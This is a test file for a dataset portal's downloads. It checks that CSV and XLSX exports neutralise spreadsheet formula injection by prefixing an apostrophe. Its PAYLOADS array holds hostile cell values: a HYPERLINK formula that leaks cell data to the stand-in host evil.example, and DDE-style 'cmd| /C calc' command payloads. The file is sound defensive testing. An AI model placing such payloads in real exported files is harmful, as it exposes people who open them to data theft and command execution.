import ExcelJS from 'exceljs';
import { testWorld } from '../support/world';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { publishedDataset } from '../support/factories';

const t = testWorld();


const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '\t=1+1', 'Lampung Barat'];
const CSV = ['nama,catatan,nilai', ...PAYLOADS.map((p, i) => `"${p.replace(/"/g, '""')}",biasa ${i},${i % 2 ? -i - 0.5 : i}`)].join('\n') + '\n';

const binary = (res: request.Response, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

describe('downloads carry no spreadsheet formulas', () => {
  it('puts an apostrophe before text that a spreadsheet would run, and leaves numbers as numbers', async () => {
    const { ds } = await publishedDataset(t.svc, t.w, CSV);
    const res = await request(t.app).get(`/dataset/${ds.slug}/download.csv`).expect(200);
    const rows: string[][] = parse(res.text);
    expect(rows[0]).toEqual(['nama', 'catatan', 'nilai']);
    const names = rows.slice(1).map((r) => r[0]);
    for (const n of names.slice(0, 5)) expect(n.startsWith("'")).toBe(true);
    expect(names[0]).toBe(`'${PAYLOADS[0]}`);
    expect(names[5]).toBe('Lampung Barat');
    // A leading tab the loader trims away leaves "=1+1", which is neutralised too.
    expect(names[4]).toMatch(/^'\t?=1\+1$/);
    expect(rows.slice(1).map((r) => r[2])).toEqual(['0', '-1.5', '2', '-3.5', '4', '-5.5']);
    // The API keeps the data as it is: only spreadsheet files need the guard.
    const api = await request(t.app).get(`/api/v1/datasets/${ds.slug}/rows`).expect(200);
    expect(api.body.data[1].nama).toBe(PAYLOADS[1]);
    expect(api.body.data[1].nilai).toBe(-1.5);
  });

  it('writes text cells as text in XLSX, never as formulas, and numbers as numbers', async () => {
    const { ds } = await publishedDataset(t.svc, t.w, CSV);
    const res = await request(t.app).get(`/dataset/${ds.slug}/download.xlsx`).buffer(true).parse(binary).expect(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(new Uint8Array(res.body as Buffer).buffer);
    const ws = wb.worksheets[0];
    for (let r = 2; r <= 7; r++) {
      expect(ws.getCell(r, 1).type).toBe(ExcelJS.ValueType.String);
      expect(ws.getCell(r, 3).type).toBe(ExcelJS.ValueType.Number);
    }
    // Neutralised as in the CSV (issue 10): a string cell is not run, but a copy to CSV or a
    // re-typed cell would be, so the text keeps the apostrophe in the workbook too.
    expect(ws.getCell(2, 1).value).toBe(`'${PAYLOADS[0]}`);
    expect(ws.getCell(7, 1).value).toBe('Lampung Barat');
  });
});
